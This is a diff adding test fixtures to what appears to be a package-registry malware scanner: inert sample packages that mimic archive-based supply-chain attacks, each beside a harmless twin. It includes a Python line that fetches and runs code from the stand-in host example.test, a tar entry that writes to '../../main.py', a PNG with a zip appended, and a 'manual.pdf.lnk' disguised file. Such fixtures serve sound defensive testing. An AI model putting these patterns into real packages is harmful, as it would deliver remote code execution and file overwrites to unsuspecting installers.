@@ -1,3 +1,6 @@
+import { gzipSync } from 'node:zlib'
+import { buildZip, type EntrySpec } from '../archive/zip-builder.test-support.ts'
+
 /**
  * Small packs that do what attacks on package registries were reported to do, and a harmless twin of each that does
  * something alike for a good reason. They are inert: every host is `example.test`, every payload is empty.
@@ -612,6 +615,65 @@ const laterAttacks: Attack[] = [
   ),
 ]
 
+const evil = 'import requests\nexec(requests.get("https://example.test/x").text)\n'
+const kind = 'import requests\nprint(requests.get("https://example.test/x").text)\n'
+const zipOf = (name: string, data: string, more: Partial<EntrySpec> = {}) =>
+  buildZip({ entries: [{ name, data, ...more }] })
+
+function tarOf(name: string, data: string): Uint8Array {
+  const header = Buffer.alloc(512)
+  header.write(name, 0, 'latin1')
+  header.write(data.length.toString(8).padStart(11, '0'), 124, 'latin1')
+  header.write('ustar', 257, 'latin1')
+  const body = Buffer.alloc(Math.ceil(data.length / 512) * 512)
+  body.write(data, 'latin1')
+  return Buffer.concat([header, body, Buffer.alloc(1024)])
+}
+
+const image = bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a)
+
+/** What lies in an archive inside the archive. */
+const nestedAttacks: Attack[] = [
+  {
+    name: 'ships a wheel that runs what an address answers',
+    files: { '__init__.py': '', 'wheels/a-1-py3-none-any.whl': zipOf('a/__init__.py', evil) },
+    twin: { '__init__.py': '', 'wheels/a-1-py3-none-any.whl': zipOf('a/__init__.py', kind) },
+  },
+  {
+    name: 'ships a packed tape archive that runs what an address answers',
+    files: { '__init__.py': '', 'lib.tar.gz': gzipSync(tarOf('lib/core.py', evil)) },
+    twin: { '__init__.py': '', 'lib.tar.gz': gzipSync(tarOf('lib/core.py', kind)) },
+  },
+  {
+    name: 'ships a tape archive that writes outside of its folder',
+    files: { '__init__.py': '', 'data.tar': tarOf('../../main.py', 'x') },
+    twin: { '__init__.py': '', 'data.tar': tarOf('data/main.txt', 'x') },
+  },
+  {
+    name: 'ships an archive that only a password opens',
+    files: { '__init__.py': '', 'models.zip': zipOf('a.py', 'x', { flags: 1 }) },
+    twin: { '__init__.py': '', 'models.zip': zipOf('a.txt', 'x') },
+  },
+  {
+    name: 'ships an archive in an archive in the archive',
+    files: {
+      '__init__.py': '',
+      'a.zip': buildZip({ entries: [{ name: 'b.zip', data: zipOf('c.py', kind) }] }),
+    },
+    twin: { '__init__.py': '', 'a.zip': zipOf('b.csv', '1,2') },
+  },
+  {
+    name: 'ships a picture that is an archive, too',
+    files: { '__init__.py': '', 'logo.png': Buffer.concat([image, zipOf('a.py', kind)]) },
+    twin: { '__init__.py': '', 'logo.png': image },
+  },
+  {
+    name: 'ships a program with two endings',
+    files: { '__init__.py': '', 'manual.pdf.lnk': 'L' },
+    twin: { '__init__.py': '', 'manual.en.pdf': '%PDF' },
+  },
+]
+
 export const attacks: readonly Attack[] = [
   ...codeAttacks,
   ...processAttacks,
@@ -619,4 +681,5 @@ export const attacks: readonly Attack[] = [
   ...scriptAttacks,
   ...fileAttacks,
   ...laterAttacks,
+  ...nestedAttacks,
 ]
